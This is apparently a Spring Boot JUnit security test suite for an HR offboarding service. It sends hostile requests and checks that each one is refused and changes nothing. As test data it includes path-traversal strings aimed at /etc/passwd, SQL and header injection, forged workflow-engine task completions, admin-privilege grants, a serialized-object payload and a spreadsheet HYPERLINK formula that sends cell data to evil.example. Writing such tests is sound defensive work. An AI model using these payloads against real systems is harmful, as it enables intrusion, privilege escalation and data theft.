package io.roster.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.roster.TestHttp;
import io.roster.offboarding.OffboardingProcess;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Hostile and malformed requests against every {@code /api} endpoint and the engine's REST API, over real HTTP with
 * the sandbox platform behind Roster: each one is answered with a 4xx (problem JSON under {@code /api}), none with a
 * 5xx, no case starts or changes, and the evidence log stays exactly as it was.
 * <p>
 * One genuine case and one review task (addressed to another manager) exist before the attack, so that requests
 * against existing ids and forged task completions have something real to aim at.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class HostileInputTests {

    private static final ObjectMapper JSON = new ObjectMapper();

    private static final String UNKNOWN = "/api/offboardings/off-00000000-0000-0000-0000-000000000000";

    @LocalServerPort
    int port;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    RuntimeService runtime;

    @Autowired
    TaskService tasks;

    @Autowired
    ManagementService management;

    /** One hostile request: who sends it, and what. */
    record Attack(String actor, String method, String path, String contentType, String body,
            Map<String, String> headers) {

        @Override
        public String toString() {
            String shown = body == null ? "" : body.length() > 80 ? body.substring(0, 80) + "…(" + body.length() + ")"
                    : body;
            return actor + " " + method + " " + (path.length() > 100 ? path.substring(0, 100) + "…" : path) + " "
                    + shown.replace("\n", "\\n");
        }

    }

    @Test
    void everyHostileRequestIsRefusedWithA4xxAndChangesNothing() throws Exception {
        String caseId = startGenuineCase();
        String task = reviewTaskForMona();
        String job = management.createJobQuery()
            .processInstanceId(runtime.createProcessInstanceQuery()
                .processInstanceBusinessKey(caseId)
                .singleResult()
                .getId())
            .list()
            .get(0)
            .getId();
        Map<String, Object> before = stateOfRoster();

        List<Attack> attacks = attacks(caseId, task, job);
        assertThat(attacks).as("hostile requests").hasSizeGreaterThanOrEqualTo(200);
        System.out.println("HostileInputTests: " + attacks.size() + " hostile requests");

        List<String> wrong = new ArrayList<>();
        for (Attack attack : attacks) {
            HttpResponse<String> response;
            try {
                response = send(attack);
            }
            catch (IllegalStateException failed) {
                wrong.add("no answer (" + failed.getMessage() + ") for " + attack);
                continue;
            }
            int status = response.statusCode();
            String contentType = response.headers().firstValue("Content-Type").orElse("");
            if (status < 400 || status > 499) {
                wrong.add(status + " for " + attack + " -> " + abbreviate(response.body()));
            }
            else if (refusedByTheWebServer(attack)) {
                if (response.body().contains("Tomcat/")) {
                    wrong.add("web server version shown for " + attack);
                }
            }
            else if (attack.path().startsWith("/api/") && (!contentType.startsWith("application/problem+json")
                    || !response.body().contains("\"type\":\"urn:roster:problem:"))) {
                wrong.add(status + " without problem JSON (" + contentType + ") for " + attack + " -> "
                        + abbreviate(response.body()));
            }
        }
        assertThat(wrong).as("requests not refused with a 4xx problem").isEmpty();

        assertThat(stateOfRoster()).as("cases, process instances, tasks, jobs and evidence after the attack")
            .isEqualTo(before);
        assertThat(tasks.createTaskQuery().taskId(task).singleResult().getAssignee()).isNull();
    }

    @Test
    void formulasHrTypedInComeOutOfTheEvidenceExportAsText() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        HttpResponse<String> started = http("helen").postJson("/api/offboardings", """
                {"email":"=1+2@brightwater.example","lastWorkingMoment":"now","manager":"mark",
                 "reason":"TERMINATION","hrReference":%s}""".formatted(JSON.writeValueAsString(formula)));
        assertThat(started.statusCode()).as(started.body()).isEqualTo(201);
        String id = JSON.readTree(started.body()).get("id").asText();

        HttpResponse<String> csv = http("audrey").send("GET", "/api/offboardings/" + id + "/evidence", null, null,
                Map.of("Accept", "text/csv"));

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).as("the formula is in the export").contains("HYPERLINK");
        List<String> cells = new ArrayList<>();
        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVParser
            .parse(new java.io.StringReader(csv.body()), org.apache.commons.csv.CSVFormat.RFC4180)) {
            parser.forEach(record -> record.forEach(cells::add));
        }
        assertThat(cells).as("cells a spreadsheet would run").noneMatch(cell -> !cell.isEmpty()
                && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        assertThat(cells).as("the formulas, as text").anyMatch(cell -> cell.startsWith("'=1+2@"))
            .noneMatch(cell -> cell.startsWith("=1+2@"));
    }

    /** What an attack must not change: cases, instances, tasks, job retries and the evidence chain heads. */
    private Map<String, Object> stateOfRoster() {
        Map<String, Object> state = new LinkedHashMap<>();
        state.put("cases", jdbc.queryForList("SELECT id, status, active_email FROM offboarding_case ORDER BY id"));
        state.put("instances", runtime.createProcessInstanceQuery().count());
        state.put("tasks", tasks.createTaskQuery().count());
        state.put("jobs", management.createJobQuery().list().stream().map(j -> j.getId() + ":" + j.getRetries())
            .sorted().toList());
        state.put("evidence", jdbc.queryForList("SELECT case_id, head_seq, head_hash FROM evidence_case ORDER BY case_id"));
        state.put("evidenceRecords", jdbc.queryForObject("SELECT COUNT(*) FROM evidence_record", Long.class));
        state.put("variables", runtime.createVariableInstanceQuery().count());
        state.put("accessReviews", jdbc.queryForObject("SELECT COUNT(*) FROM access_review", Long.class));
        state.put("controlCenterExports", jdbc.queryForObject("SELECT COUNT(*) FROM control_center_export",
                Long.class));
        return state;
    }

    private String startGenuineCase() throws Exception {
        HttpResponse<String> started = http("helen").postJson("/api/offboardings", """
                {"email":"olivia.brown@brightwater.example","lastWorkingMoment":"2030-01-31T17:00:00+01:00",
                 "manager":"mark","reason":"RESIGNATION","hrReference":"HR-HOSTILE-1"}""".replace("2030",
                String.valueOf(java.time.Year.now().getValue() + 1)));
        assertThat(started.statusCode()).as(started.body()).isEqualTo(201);
        return JSON.readTree(started.body()).get("id").asText();
    }

    private String reviewTaskForMona() {
        String instance = runtime.createProcessInstanceByKey(OffboardingProcess.KEY)
            .setVariable(OffboardingProcess.Var.REVIEWER_CANDIDATES, List.of("mona"))
            .setVariable(OffboardingProcess.Var.REVIEWER_GROUPS, List.of())
            .startBeforeActivity(OffboardingProcess.Task.REVIEW_PLAN)
            .execute(true, true)
            .getId();
        return tasks.createTaskQuery().processInstanceId(instance).singleResult().getId();
    }

    private List<Attack> attacks(String caseId, String task, String job) {
        List<Attack> attacks = new ArrayList<>();
        String existing = "/api/offboardings/" + caseId;
        for (String body : HostileBodies.startRequests()) {
            attacks.add(json("helen", "POST", "/api/offboardings", body));
            attacks.add(json("helen", "POST", "/api/offboardings/preview", body));
        }
        for (String body : HostileBodies.reschedules()) {
            attacks.add(json("helen", "PATCH", existing, body));
        }
        String valid = HostileBodies.valid();
        // wrong media types for JSON endpoints
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x")) {
            attacks.add(new Attack("helen", "POST", "/api/offboardings", type, valid, Map.of()));
            attacks.add(new Attack("helen", "POST", "/api/offboardings/preview", type, valid, Map.of()));
        }
        attacks.add(new Attack("helen", "PATCH", existing, "text/plain", "{\"lastWorkingMoment\":\"now\"}", Map.of()));
        // idempotency keys that are too long
        attacks.add(new Attack("helen", "POST", "/api/offboardings", "application/json", valid,
                Map.of("Idempotency-Key", "k".repeat(5000))));
        // unknown ids, ids of the wrong shape, path tricks
        for (String path : List.of(UNKNOWN, UNKNOWN + "/evidence", "/api/offboardings/off-xyz",
                "/api/offboardings/" + caseId.toUpperCase(), "/api/offboardings/" + caseId + "x",
                "/api/offboardings/%20" + caseId, "/api/offboardings/" + caseId + "/../../me",
                "/api/offboardings/..%2F..%2Fme", "/api/offboardings/%2e%2e/%2e%2e/actuator/env",
                "/api/offboardings/" + caseId + ";jsessionid=1", "/api/offboardings//" + caseId,
                "/api/offboardings/" + caseId + "%00", "/api/offboardings/" + caseId + "%0d%0aX-Injected:%201",
                "/api/offboardings/" + "a".repeat(3000), "/api/offboardings/..%5C..%5Cetc%5Cpasswd",
                "/api/offboardings/" + caseId + "/evidence/../../../../engine-rest/user",
                "/api/offboardings/%252e%252e%252fme", "/api/./offboardings/" + caseId + "/./evidence",
                "/api/offboardings/" + caseId + "/evidence.csv", "/api/members/../offboardings",
                "/api/no-such-thing", "/api/offboardings/batch/../../me")) {
            attacks.add(new Attack("helen", "GET", path, null, null, Map.of()));
        }
        for (String method : List.of("PATCH", "DELETE")) {
            attacks.add(json("helen", method, UNKNOWN, "{\"lastWorkingMoment\":\"now\"}"));
            attacks.add(json("helen", method, "/api/offboardings/off-xyz", "{\"lastWorkingMoment\":\"now\"}"));
        }
        attacks.add(new Attack("helen", "DELETE", existing + "?reason=" + "r".repeat(600), null, null, Map.of()));
        attacks.add(new Attack("helen", "PUT", existing, "application/json", valid, Map.of()));
        attacks.add(new Attack("helen", "POST", existing, "application/json", valid, Map.of()));
        attacks.add(new Attack("helen", "DELETE", "/api/offboardings", null, null, Map.of()));
        attacks.add(new Attack("helen", "TRACE", existing, null, null, Map.of()));
        attacks.add(new Attack("helen", "GET", existing + "/evidence", null, null, Map.of("Accept", "application/xml")));
        attacks.add(new Attack("helen", "GET", existing, null, null, Map.of("Accept", "text/csv")));
        // list filters
        for (String query : List.of("status=BOGUS", "status=%27%20OR%201%3D1", "limit=0", "limit=501",
                "limit=-1", "limit=abc", "limit=99999999999999", "offset=-1", "offset=x",
                "email=" + "e".repeat(300), "limit=1e3")) {
            attacks.add(new Attack("helen", "GET", "/api/offboardings?" + query, null, null, Map.of()));
        }
        // member look-ups
        for (String query : List.of("", "email=", "email=%20", "openId=a&email=b@c.d", "userId=x&directoryId=y",
                "email=nobody@brightwater.example", "openId=..%2F..%2Fetc%2Fpasswd",
                "userId=%27%3B%20DROP%20TABLE%20identity_link%3B--", "email=" + "m".repeat(5000),
                "directoryId=%00")) {
            attacks.add(new Attack("paula", "GET", "/api/members?" + query, null, null, Map.of()));
        }
        // batches
        for (String csv : HostileBodies.batches()) {
            attacks.add(new Attack("helen", "POST", "/api/offboardings/batch", "text/csv", csv, Map.of()));
        }
        attacks.add(new Attack("helen", "POST", "/api/offboardings/batch", "application/json", valid, Map.of()));
        attacks.add(new Attack("helen", "POST", "/api/offboardings/batch", "application/octet-stream",
                "\u0000\u0001\u0002PK", Map.of()));
        // access reviews, reports and the Control Center export (issue 6)
        String unknownReview = "00000000-0000-0000-0000-000000000000";
        for (String path : List.of("/api/access-reviews/" + unknownReview, "/api/access-reviews/x%27%20OR%201=1",
                "/api/access-reviews/" + "r".repeat(3000), "/api/access-reviews/" + unknownReview + "/findings.csv",
                "/api/access-reviews/" + unknownReview + "/findings.xlsx",
                "/api/access-reviews/" + unknownReview + "/findings.exe", "/api/reports/member-inventory.csv",
                "/api/reports/member-inventory.pdf", "/api/reports/member-inventory.csv?review=" + unknownReview,
                "/api/reports/backup-access.xlsx?review=..%2F..", "/api/reports/backup-access.bogus",
                "/api/reports/member-inventory.xlsx;.csv")) {
            attacks.add(new Attack("paula", "GET", path, null, null, Map.of()));
        }
        for (String[] upload : new String[][] { { "application/json", valid }, { "text/csv", "a,b\n1,2" },
                { "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"; "
                        + "filename=\"members.xlsx\"\r\n\r\nnot a workbook\r\n--x--\r\n" },
                { "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"other\"\r\n"
                        + "\r\n1\r\n--x--\r\n" },
                { "multipart/form-data; boundary=x", "--x\r\nbroken" },
                { "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"; "
                        + "filename=\"../../etc/passwd\"\r\n\r\nPK\u0003\u0004garbage\r\n--x--\r\n" } }) {
            attacks.add(new Attack("paula", "POST", "/api/reports/control-center-export", upload[0], upload[1],
                    Map.of()));
        }
        for (String actor : List.of("anonymous", "intruder", "helen", "mark", "audrey")) {
            attacks.add(new Attack(actor, "POST", "/api/access-reviews", "application/json", "{}", Map.of()));
            attacks.add(new Attack(actor, "POST", "/api/reports/control-center-export",
                    "multipart/form-data; boundary=x", "--x--\r\n", Map.of()));
        }
        for (String actor : List.of("anonymous", "helen", "mark")) {
            attacks.add(new Attack(actor, "GET", "/api/access-reviews", null, null, Map.of()));
            attacks.add(new Attack(actor, "GET", "/api/reports/member-inventory.csv", null, null, Map.of()));
            attacks.add(new Attack(actor, "GET", "/api/reports/control-center-export", null, null, Map.of()));
        }
        // wrong roles and no or wrong credentials
        for (String actor : List.of("anonymous", "intruder", "mark", "paula", "audrey", "ada")) {
            attacks.add(json(actor, "POST", "/api/offboardings", valid));
            attacks.add(json(actor, "POST", "/api/offboardings/preview", valid));
            attacks.add(new Attack(actor, "POST", "/api/offboardings/batch", "text/csv", HostileBodies.validCsv(),
                    Map.of()));
            attacks.add(json(actor, "PATCH", existing, "{\"lastWorkingMoment\":\"now\"}"));
            attacks.add(new Attack(actor, "DELETE", existing, null, null, Map.of()));
        }
        for (String actor : List.of("anonymous", "intruder", "mark", "audrey", "ada")) {
            attacks.add(new Attack(actor, "GET", "/api/offboardings", null, null, Map.of()));
            attacks.add(new Attack(actor, "GET", existing, null, null, Map.of()));
        }
        for (String actor : List.of("anonymous", "intruder", "mark", "ada")) {
            attacks.add(new Attack(actor, "GET", existing + "/evidence", null, null, Map.of()));
        }
        for (String actor : List.of("anonymous", "intruder", "helen", "audrey")) {
            attacks.add(new Attack(actor, "GET", "/api/members?email=olivia.brown@brightwater.example", null, null,
                    Map.of()));
        }
        attacks.add(new Attack("anonymous", "GET", "/api/me", null, null, Map.of()));
        attacks.add(new Attack("helen", "GET", "/api/me", null, null, Map.of("Authorization", "Basic !!!")));
        attacks.add(new Attack("helen", "GET", "/api/me", null, null, Map.of("Authorization", "Bearer x.y.z")));
        attacks.add(new Attack("helen", "GET", "/api/openapi", null, null,
                Map.of("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString("helen".getBytes()))));
        // a state change from another site with a valid login
        attacks.add(new Attack("helen", "POST", "/api/offboardings", "application/json", valid,
                Map.of("Sec-Fetch-Site", "cross-site")));
        attacks.add(new Attack("helen", "DELETE", existing, null, null, Map.of("Sec-Fetch-Site", "cross-site")));
        // forged task completions and other engine changes through /engine-rest by people without the right
        String instance = tasks.createTaskQuery().taskId(task).singleResult().getProcessInstanceId();
        String variables = "{\"variables\":{\"approvedDeletions\":{\"value\":\"[\\\"all\\\"]\",\"type\":\"Json\"}}}";
        for (String actor : List.of("mark", "helen", "paula", "audrey", "anonymous", "intruder")) {
            attacks.add(json(actor, "POST", "/engine-rest/task/" + task + "/complete", variables));
            attacks.add(json(actor, "POST", "/engine-rest/task/" + task + "/submit-form", variables));
            attacks.add(json(actor, "POST", "/engine-rest/task/" + task + "/claim", "{\"userId\":\"" + actor + "\"}"));
            attacks.add(json(actor, "POST", "/engine-rest/task/" + task + "/assignee", "{\"userId\":\"mark\"}"));
            attacks.add(json(actor, "PUT", "/engine-rest/process-instance/" + instance + "/variables/plan",
                    "{\"value\":\"[]\",\"type\":\"Json\"}"));
            attacks.add(json(actor, "POST", "/engine-rest/process-definition/key/offboarding/start",
                    "{\"variables\":{}}"));
            attacks.add(new Attack(actor, "DELETE", "/engine-rest/process-instance/" + instance, null, null,
                    Map.of()));
            attacks.add(json(actor, "POST", "/engine-rest/job/" + job + "/execute", null));
        }
        for (String actor : List.of("mark", "helen", "paula")) {
            attacks.add(json(actor, "POST", "/engine-rest/process-instance/" + instance + "/modification",
                    "{\"instructions\":[{\"type\":\"cancel\",\"activityId\":\"Task_ReviewPlan\"}]}"));
            attacks.add(json(actor, "POST", "/engine-rest/user/create",
                    "{\"profile\":{\"id\":\"eve\"},\"credentials\":{\"password\":\"x\"}}"));
            attacks.add(json(actor, "POST", "/engine-rest/group/platform-admins/members/" + actor, null));
            attacks.add(json(actor, "POST", "/engine-rest/authorization/create",
                    "{\"type\":1,\"permissions\":[\"ALL\"],\"userId\":\"" + actor + "\",\"resourceType\":8,"
                            + "\"resourceId\":\"*\"}"));
        }
        for (String actor : List.of("mark", "helen", "audrey")) {
            attacks.add(json(actor, "PUT", "/engine-rest/job/" + job + "/retries", "{\"retries\":0}"));
        }
        attacks.add(json("mona", "POST", "/engine-rest/task/" + task + "/complete", "{\"variables\":"));
        attacks.add(json("mona", "POST", "/engine-rest/task/" + task + "/submit-form", "[]"));
        attacks.add(json("mona", "POST", "/engine-rest/task/no-such-task/complete", "{}"));
        attacks.add(json("mona", "POST", "/engine-rest/task/" + task + "/complete",
                "{\"variables\":{\"x\":{\"value\":\"rO0ABXQAAXg=\",\"type\":\"Object\",\"valueInfo\":"
                        + "{\"objectTypeName\":\"java.lang.String\",\"serializationDataFormat\":"
                        + "\"application/x-java-serialized-object\"}}}}"));
        return attacks;
    }

    /**
     * Tomcat itself refuses a NUL or an encoded backslash in the path, and TRACE, before any of Roster's code runs:
     * a bare 400/405 page, no problem JSON.
     */
    private static boolean refusedByTheWebServer(Attack attack) {
        return attack.method().equals("TRACE") || attack.path().contains("%00") || attack.path().contains("%5C");
    }

    private static Attack json(String actor, String method, String path, String body) {
        return new Attack(actor, method, path, "application/json", body, Map.of());
    }

    private HttpResponse<String> send(Attack attack) {
        return http(attack.actor()).send(attack.method(), attack.path(), attack.contentType(), attack.body(),
                attack.headers());
    }

    private TestHttp http(String actor) {
        return switch (actor) {
            case "anonymous" -> TestHttp.anonymous(port);
            case "intruder" -> TestHttp.as(port, "helen", "guessed-password");
            default -> TestHttp.as(port, actor, "demo");
        };
    }

    private static String abbreviate(String body) {
        return body == null || body.length() < 300 ? body : body.substring(0, 300) + "…";
    }

}
